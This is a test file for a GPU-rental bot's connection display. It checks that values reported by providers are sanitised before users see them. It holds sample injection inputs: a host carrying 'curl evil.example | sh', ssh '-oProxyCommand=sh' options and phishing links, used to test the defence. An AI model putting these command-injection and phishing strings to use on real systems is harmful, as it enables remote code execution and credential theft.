import { pino } from 'pino'
import { expect, test } from 'vitest'
import { commandRegistry } from '../../commands/registry.ts'
import { createMetrics } from '../../src/app/metrics.ts'
import type { Services } from '../../src/app/Services.ts'
import { CommandPipeline } from '../../src/command/CommandPipeline.ts'
import type { Reply } from '../../src/command/reply.ts'
import { RateLimiter } from '../../src/command/RateLimiter.ts'
import { connectionView, UNCHECKED_CONNECTION } from '../../src/market/connectionView.ts'
import { SEALED_PREFIX } from '../../src/notify/enqueueNotification.ts'
import { renderTelegramReply } from '../../src/chat/telegram/renderTelegramReply.ts'
import { createMarketHarness } from '../support/marketHarness.ts'

const SSH = { host: 'gpu7.example.org', port: '40022', user: 'gridshare', secret: 'kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd', endsAt: '2026-11-26T13:00:00.000Z', protocol: 'ssh' }
const HTTP = { host: '203.0.113.9', port: '40123', user: 'gridshare', secret: 'kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd', endsAt: '2026-11-26T13:00:00.000Z' }

test('an SSH workload is one ready ssh line; the access secret is not shown, since keys log in', () => {
  expect(connectionView(SSH)).toEqual({
    fields: [{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }],
    code: 'ssh -p 40022 gridshare@gpu7.example.org',
  })
})

test('any other workload is its URL, with the secret named for what it is', () => {
  expect(connectionView(HTTP)).toEqual({
    fields: [
      { name: 'Open', value: 'http://203.0.113.9:40123' },
      { name: 'Access secret', value: "kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd (the workload's token or password)" },
    ],
  })
  expect(connectionView({ ...HTTP, host: '2001:db8::7' }).fields[0]).toEqual({ name: 'Open', value: 'http://[2001:db8::7]:40123' })
})

const PHISHING = 'Support: paste your wallet key at http://evil.example/help'
const UNCHECKED = { fields: [{ name: 'Connection', value: UNCHECKED_CONNECTION }] }

test('attack: a field the agent adds beyond the known ones is never shown, next to an ssh line or a URL', () => {
  expect(connectionView({ ...SSH, support: PHISHING, jupyter: 'http://gpu7.example.org:8888' })).toEqual({
    fields: [{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }],
    code: 'ssh -p 40022 gridshare@gpu7.example.org',
  })
  expect(connectionView({ ...HTTP, support: PHISHING })).toEqual({
    fields: [
      { name: 'Open', value: 'http://203.0.113.9:40123' },
      { name: 'Access secret', value: "kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd (the workload's token or password)" },
    ],
  })
})

test.each([
  ['a sentence', 'paste your wallet key at evil.example'],
  ['a link', 'http://evil.example/claim'],
  ['markup', '<a href="http://evil.example">token</a>'],
  ['a second line', 'kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd\nSupport: DM @evil'],
  ['a right-to-left override', 'kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd\u202e'],
  ['too short to be one we issued', 'hunter2'],
])('attack: a secret that is %s is not shown; the URL still is', (_name, secret) => {
  expect(connectionView({ ...HTTP, secret })).toEqual({ fields: [{ name: 'Open', value: 'http://203.0.113.9:40123' }] })
})

test.each([
  ['a host with a shell command', { ...SSH, host: 'gpu7.example.org; curl evil.example | sh' }],
  ['a host that is an ssh option', { ...SSH, host: '-oProxyCommand=sh' }],
  ['a host with a phishing text', { ...SSH, host: PHISHING }],
  ['a host with a second line', { ...SSH, host: `gpu7.example.org\n${PHISHING}` }],
  ['a host with a right-to-left override', { ...SSH, host: 'gpu7.example.org\u202egro' }],
  ['a host with markup', { ...HTTP, host: '<b>evil</b>' }],
  ['a user with an ssh option', { ...SSH, user: 'root -oProxyCommand=sh' }],
  ['a port that is not a port', { ...SSH, port: '22 -oProxyCommand=sh' }],
  ['a port out of range', { ...SSH, port: '70000' }],
  ['a port in other digits', { ...HTTP, port: '\u0664\u0660\u0661' }],
  ['no host at all', { port: '40022', support: PHISHING }],
])('attack: a provider reporting %s gets no command and none of its text shown, only a fixed sentence', (_name, connection) => {
  expect(connectionView(connection)).toEqual(UNCHECKED)
})

function setUp() {
  const h = createMarketHarness()
  const pipeline = new CommandPipeline({
    db: h.db,
    logger: pino({ level: 'silent' }),
    metrics: createMetrics({ defaults: false }),
    clock: () => h.clock.now,
    commands: commandRegistry,
    services: { units: h.units, ledger: h.ledger, market: h.market, params: h.params } as unknown as Services,
    rateLimiter: new RateLimiter({ burst: 1e6, perSecond: 1e6 }),
    adminIds: new Set(),
  })
  const alice = { platform: 'telegram' as const, id: 'alice', name: 'alice' }
  const renter = h.renter('alice', 100)
  const provider = h.provider(1)
  const quote = h.rentals.quote({ accountId: renter, model: 'H100-80GB', hours: 1, gpuCount: 1 })
  const rental = h.rentals.confirm({ accountId: renter, quote: { ...quote, pricePerGpuHour: quote.pricePerGpuHour.toString() }, image: 'cuda' })
  h.rentals.claim(provider.address, rental.id)
  const job = async () => (await pipeline.runText(alice, { id: 'dm', kind: 'private' }, `/job ${rental.id}`))!
  const runningNotice = () => {
    const { reply } = h.sqlite.prepare("select reply from notifications where dedupe_key = ?").get(`rental.running:${rental.id}`) as { reply: string }
    return JSON.parse(h.secrets.open(reply.slice(SEALED_PREFIX.length))) as Reply
  }
  return { h, provider, rental, job, runningNotice }
}

test('/job of a running SSH rental shows the image and a ready ssh line, and never the secret', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, SSH)
  const reply = await t.job()
  expect(reply.code).toBe('ssh -p 40022 gridshare@gpu7.example.org')
  expect(reply.fields).toContainEqual({ name: 'Image', value: 'cuda (nvidia/cuda:12.4.1-runtime-ubuntu22.04)' })
  expect(reply.fields!.slice(-1)).toEqual([{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }])
  expect(JSON.stringify(reply)).not.toContain(SSH.secret)
  // The private "is running" message says the same.
  expect(t.runningNotice()).toMatchObject({ title: `Rental ${t.rental.id} is running`, code: 'ssh -p 40022 gridshare@gpu7.example.org', fields: [{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }] })
})

test('/job of a running web workload shows its URL and the secret it uses', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, HTTP)
  const reply = await t.job()
  expect(reply.code).toBeUndefined()
  expect(reply.fields!.slice(-2)).toEqual([
    { name: 'Open', value: 'http://203.0.113.9:40123' },
    { name: 'Access secret', value: "kQ9z-Xw2_pLm4Rt7Vb1Nc8Yd (the workload's token or password)" },
  ])
  expect(JSON.stringify(reply)).not.toContain('user')
})

test('/job of an ended rental shows no connection any more', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, SSH)
  t.h.rentals.stop({ accountId: t.rental.accountId, id: t.rental.id })
  const reply = await t.job()
  expect(reply.code).toBeUndefined()
  const names = reply.fields!.map((f) => f.name)
  expect(names).toContain('Image')
  expect(names.filter((name) => ['Connect', 'Open', 'Access secret', 'host', 'secret'].includes(name))).toEqual([])
})

test('attack: an agent reporting a phishing field next to a good ssh line: /job and the running message show none of it', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, { ...SSH, support: PHISHING })
  const reply = await t.job()
  expect(reply).toEqual({
    title: `Rental ${t.rental.id}`,
    fields: [
      { name: 'GPUs', value: `1× H100-80GB on node ${t.rental.nodeId}` },
      { name: 'Status', value: 'running' },
      { name: 'Price', value: '2 GRID per GPU-hour, 1 h paid' },
      { name: 'Started', value: '2026-11-26 12:00 UTC' },
      { name: 'Ends', value: '2026-11-26 13:00 UTC' },
      { name: 'Image', value: 'cuda (nvidia/cuda:12.4.1-runtime-ubuntu22.04)' },
      { name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' },
    ],
    code: 'ssh -p 40022 gridshare@gpu7.example.org',
    private: true,
  })
  expect(t.runningNotice()).toEqual({
    title: `Rental ${t.rental.id} is running`,
    text: `1× H100-80GB on node ${t.rental.nodeId} until 2026-11-26 13:00 UTC.`,
    fields: [{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }],
    code: 'ssh -p 40022 gridshare@gpu7.example.org',
    private: true,
  })
})

test('attack: an agent reporting a phishing text as the host: /job, the running message and the Telegram text show only the fixed sentence', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, { ...SSH, host: PHISHING, support: PHISHING })
  const reply = await t.job()
  expect(reply.code).toBeUndefined()
  expect(reply.fields!.slice(-2)).toEqual([
    { name: 'Image', value: 'cuda (nvidia/cuda:12.4.1-runtime-ubuntu22.04)' },
    { name: 'Connection', value: UNCHECKED_CONNECTION },
  ])
  expect(JSON.stringify(reply)).not.toContain('evil')
  expect(t.runningNotice()).toEqual({
    title: `Rental ${t.rental.id} is running`,
    text: `1× H100-80GB on node ${t.rental.nodeId} until 2026-11-26 13:00 UTC.`,
    fields: [{ name: 'Connection', value: UNCHECKED_CONNECTION }],
    private: true,
  })
  expect(renderTelegramReply(t.runningNotice()).parts).toEqual([
    `<b>Rental ${t.rental.id} is running</b>\n1× H100-80GB on node ${t.rental.nodeId} until 2026-11-26 13:00 UTC.\n\n<b>Connection</b>: ${UNCHECKED_CONNECTION}`,
  ])
})
